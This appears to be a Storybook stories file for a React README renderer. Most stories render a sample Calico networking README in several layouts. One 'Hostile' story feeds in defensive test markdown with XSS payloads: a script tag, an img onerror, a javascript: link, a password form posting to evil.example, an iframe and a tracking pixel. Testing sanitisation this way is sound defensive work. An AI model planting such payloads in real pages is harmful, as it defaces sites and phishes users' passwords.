import type { Meta, StoryObj } from '@storybook/react-vite';
import { screen } from 'storybook/test';
import { Readme } from '../src/components/Readme/Readme';
import type { ReadmeContentProps } from '../src/components/Readme/ReadmeContent';
import { ReadmeFrame } from '../src/components/Readme/ReadmeFrame';
import { lazyWithRetry } from '../src/components/ui/lazyWithRetry';
import { Root } from '../src/components/ui/Root';

const rich = `# Calico

[![Build status](https://ci.example.com/calico.svg)](https://ci.example.com/calico)

Calico connects and secures the pods of a cluster. It works on every provider, **with or without**
an overlay, and enforces \`NetworkPolicy\` resources.

## Prerequisites

- Kubernetes \`1.27\` or later
- A pod CIDR that overlaps neither with the services nor with the hosts
  - ask your network team for a range
- [x] Linux kernel 5.10 or later
- [ ] eBPF data plane (optional)

## Parameters

| Parameter | Description | Default |
|---|---|---|
| \`manifests.calico.encapsulationType\` | \`CALICO_IPV4POOL_IPIP\` or \`CALICO_IPV4POOL_VXLAN\` | \`CALICO_IPV4POOL_IPIP\` |
| \`manifests.calico.env.calicoNode.FELIX_MTUIFACEPATTERN\` | Interfaces whose MTU is looked at | *not set* |

## Usage

1. Choose the pack for the layer *Network*.
2. Change the encapsulation where the hosts have no route between them:

\`\`\`yaml
manifests:
  calico:
    encapsulationType: "CALICO_IPV4POOL_VXLAN"
\`\`\`

> [!WARNING]
> Changing the encapsulation of a running cluster interrupts its network.

#### More

![How the parts work together](https://docs.example.com/calico.png)

<details><summary>Known issues</summary>

See the [release notes](https://docs.example.com/releases) or write to <team@example.com>.

</details>
`;

const hostile = `# A pack that means no good

<script>document.body.innerHTML = ''</script>
<img src="x" onerror="document.body.innerHTML = ''">
<form action="https://evil.example"><label>Password <input name="password"></label><button>Log in</button></form>
<iframe src="https://evil.example"></iframe>
<p style="position:fixed;inset:0;background:red">Covers the page</p>

[Click here](javascript:alert(1)) or [here](https://evil.example "looks fine").

![A tracking pixel](https://evil.example/pixel.gif)
`;

const meta = {
  title: 'Components/Readme',
  component: Readme,
  decorators: [
    (Story) => (
      <Root>
        <div style={{ padding: 16 }}>
          <Story />
        </div>
      </Root>
    ),
  ],
  args: { markdown: rich, title: 'README of Calico' },
} satisfies Meta<typeof Readme>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Rich: Story = {
  play: async () => {
    await screen.findByRole('heading', { name: 'Prerequisites' }, { timeout: 20_000 });
  },
};

export const Narrow: Story = {
  ...Rich,
  decorators: [
    (Story) => (
      <div style={{ inlineSize: 328 }}>
        <Story />
      </div>
    ),
  ],
};

export const RightToLeft: Story = {
  ...Rich,
  decorators: [
    (Story) => (
      <div dir="rtl">
        <Story />
      </div>
    ),
  ],
};

export const Dark: Story = { ...Rich, globals: { colorScheme: 'dark' } };

/** Nothing in it runs, loads or posts anything. */
export const Hostile: Story = {
  args: { markdown: hostile, title: 'README of a hostile pack' },
  play: async () => {
    await screen.findByRole('heading', { name: 'A pack that means no good' }, { timeout: 20_000 });
  },
};

export const None: Story = { args: { markdown: null } };

const never = lazyWithRetry<ReadmeContentProps>(() => new Promise(() => undefined));

export const Loading: Story = { render: (args) => <ReadmeFrame {...args} content={never} /> };

const gone = lazyWithRetry<ReadmeContentProps>(() =>
  Promise.reject(new Error('The chunk of the README is gone.')),
);

export const Failed: Story = {
  parameters: { expectedConsole: [/The chunk of the README is gone/] },
  render: (args) => <ReadmeFrame {...args} content={gone} />,
  play: async () => {
    await screen.findByText('The README could not be formatted.');
  },
};
